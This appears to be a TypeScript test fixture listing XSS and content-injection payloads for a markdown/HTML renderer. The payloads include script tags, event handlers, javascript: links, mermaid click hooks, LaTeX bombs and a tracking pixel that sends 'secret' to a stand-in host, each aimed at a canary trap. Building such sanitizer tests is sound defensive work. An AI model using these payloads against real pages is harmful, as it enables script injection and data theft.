/** Where everything below would tell of its success: an address that nothing may ever ask for. */
export const TRAP = "https://trap.example";

const RUN = `window.__ran=1;fetch('${TRAP}/f')`;

/** What a hostile model, file or page may write to have something executed or loaded. */
export const HOSTILE: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src="${TRAP}/i.png" onerror="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<iframe src="${TRAP}/frame" srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="${TRAP}/o"></object><embed src="${TRAP}/e">`,
  `<link rel="stylesheet" href="${TRAP}/s.css"><style>@import "${TRAP}/s2.css";</style>`,
  `<meta http-equiv="refresh" content="0;url=${TRAP}/m"><base href="${TRAP}/">`,
  `<form action="${TRAP}/p"><button autofocus onfocus="${RUN}">x</button></form>`,
  `<video src="${TRAP}/v"></video><audio src="${TRAP}/a" autoplay></audio>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<b onmouseover="${RUN}">b</b> <sub style="background:url(${TRAP}/bg)">s</sub>`,
  "[a](javascript:window.__ran=1) [b](JaVaScRiPt:window.__ran=1) [c](java\tscript:window.__ran=1)",
  "[d](data:text/html,<script>window.__ran=1</script>) [e](vbscript:x) [f](file:///etc/passwd)",
  `<javascript:window.__ran=1> [g](//trap.example/x) [h](#/setup) [i](/session)`,
  `![x](${TRAP}/pixel.png?said=secret) ![y](javascript:window.__ran=1) ![z](data:image/svg+xml,<svg onload=alert(1)>)`,
  `[![n](${TRAP}/nested.png)](javascript:window.__ran=1)`,
  `[ref]: javascript:window.__ran=1 "x"\n\nsee [ref] and ![ref]`,
  '[q](https://example.org/"onmouseover="window.__ran=1)',
  `\\(\\href{javascript:window.__ran=1}{x}\\) and \\(\\includegraphics{${TRAP}/k.png}\\)`,
  `$$\\htmlStyle{background:url(${TRAP}/h)}{x} \\url{javascript:window.__ran=1}$$`,
  `\\(\\def\\a{\\a\\a}\\a\\) \\(\\rule{99999em}{99999em}\\)`,
  '```"><script>window.__ran=1</script>\n</code><script>window.__ran=1</script>\n```',
  '| <img src=x onerror="window.__ran=1"> |\n|---|\n| <script>window.__ran=1</script> |',
  `[^"><img src=x onerror=window.__ran=1>]: note <script>${RUN}</script>`,
  `\`\`\`mermaid\ngraph TD\n  A["<img src='${TRAP}/mm.png' onerror='${RUN}'>"] --> B[b]\n  click A "javascript:window.__ran=1"\n  click B href "${TRAP}/click"\n\`\`\``,
];

/** The same as names: short enough for every field that somebody else may fill. */
export const HOSTILE_NAMES: readonly string[] = [
  "<img src=x onerror=window.__ran=1>",
  '"><script>window.__ran=1</script>',
  "' autofocus onfocus=window.__ran=1 x='",
  "[x](javascript:window.__ran=1)",
  "![x](//trap.example/i)",
  "javascript:window.__ran=1",
];
